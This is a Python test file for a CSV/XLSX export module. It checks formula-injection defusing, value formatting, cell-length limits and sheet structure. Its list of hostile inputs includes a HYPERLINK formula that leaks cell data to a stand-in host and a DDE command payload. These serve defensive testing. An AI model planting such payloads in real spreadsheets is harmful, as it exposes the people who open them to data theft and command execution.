"""What leaves as CSV or XLSX: whole, and harmless in a spreadsheet."""

import csv
import io
import re
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from xml.etree import ElementTree as Xml

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deskd.output.export import (
    CELL_MAX,
    FORMULA_STARTS,
    ROWS_MAX,
    Cell,
    Table,
    as_csv,
    defused,
    workbook,
)

NOW = datetime(2026, 11, 16, 9, 30, tzinfo=UTC)
EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
]
_NS = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def written(*rows: tuple[Cell, ...], head: tuple[str, ...] = ("a", "b")) -> str:
    return as_csv(Table("t", head, rows))


def parts(book: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(book)) as file:
        return {name: file.read(name).decode() for name in file.namelist()}


def sheet(*rows: tuple[Cell, ...], head: tuple[str, ...] = ("a", "b")) -> dict[str, str]:
    return parts(workbook([Table("t", head, rows)], made_at=NOW))


def strings(found: dict[str, str]) -> list[str]:
    """Every text of the workbook, heads first."""
    tree = Xml.fromstring(found["xl/sharedStrings.xml"])
    return ["".join(node.itertext()) for node in tree.findall("s:si", _NS)]


@pytest.mark.parametrize("text", EVIL)
def test_no_text_is_a_formula(text: str) -> None:
    cell = next(csv.reader(io.StringIO(written((text, "x")).split("\r\n", 1)[1], newline="")))[0]
    assert cell.startswith("'")
    book = sheet((text, "x"))
    assert strings(book)[2].startswith("'")
    assert "<f>" not in book["xl/worksheets/sheet1.xml"]


@given(st.text(st.characters(codec="utf-8"), max_size=60))
def test_whatever_is_written_no_cell_begins_like_a_formula(text: str) -> None:
    row = list(csv.reader(io.StringIO(written((text, "x")), newline="")))[1]
    assert not row[0].startswith(FORMULA_STARTS)
    assert len(row) == 2


def test_harmless_text_stays_as_it_is() -> None:
    assert defused("VPN = down, 2+2") == "VPN = down, 2+2"
    assert written(('say "no", please', "ä")) == 'a,b\r\n"say ""no"", please",ä\r\n'


def test_numbers_are_numbers_also_below_zero() -> None:
    assert written((-5, 1.5)).splitlines()[1] == "-5,1.5"
    assert "<v>-5</v>" in sheet((-5, 1.5))["xl/worksheets/sheet1.xml"]


def test_instants_are_rfc_3339_in_utc() -> None:
    berlin = datetime(2026, 11, 16, 10, 30, tzinfo=timezone(timedelta(hours=1)))
    assert written((berlin, None)).splitlines()[1] == "2026-11-16T09:30:00Z,"
    assert "2026-11-16T09:30:00Z" in strings(sheet((berlin, None)))


def test_yes_and_no_and_nothing() -> None:
    assert written((True, None)).splitlines()[1] == "true,"
    assert 't="b"><v>1</v>' in sheet((True, None))["xl/worksheets/sheet1.xml"]


def test_a_workbook_shows_durations_as_such_and_titles_as_words() -> None:
    book = sheet((5400, "x"), head=("used_seconds", "due_at"))
    assert strings(book)[:2] == ["Used", "Due at"]
    assert "<v>0.0625</v>" in book["xl/worksheets/sheet1.xml"]
    assert "[h]:mm:ss" in book["xl/styles.xml"]


def test_no_link_is_made_of_an_address() -> None:
    book = sheet(("http://evil.example", "mailto:x@example.com"))
    assert not [name for name in book if "rels/sheet" in name]


def test_a_text_too_long_for_a_cell_is_cut_and_not_lost() -> None:
    assert max(map(len, strings(sheet(("x" * 40_000, "y"))))) == CELL_MAX


def test_characters_that_no_file_can_hold_are_written_out() -> None:
    assert strings(sheet(("a\x00b\x1b[2J\udc80", "y")))[2] == "a\\x00b\\x1b[2J?"


def test_too_many_rows_for_a_sheet_are_refused_and_not_cut() -> None:
    with pytest.raises(ValueError, match="export CSV"):
        workbook([Table("t", ("a",), range(ROWS_MAX))], made_at=NOW)  # type: ignore[arg-type]  # only its length is looked at


def test_an_empty_table_is_a_sheet_with_a_head() -> None:
    book = sheet()
    assert strings(book) == ["A", "B"]
    assert re.search(r'<autoFilter ref="A1:B2"', book["xl/worksheets/sheet1.xml"])


def test_every_table_has_its_sheet_and_the_file_says_when_it_was_made() -> None:
    tables = [Table(name, ("a",), [(1,)]) for name in ("tickets", "clocks")]
    book = parts(workbook(tables, made_at=NOW))
    assert re.findall(r'<sheet name="(\w+)"', book["xl/workbook.xml"]) == ["tickets", "clocks"]
    assert "2026-11-16T09:30:00Z" in book["docProps/core.xml"]
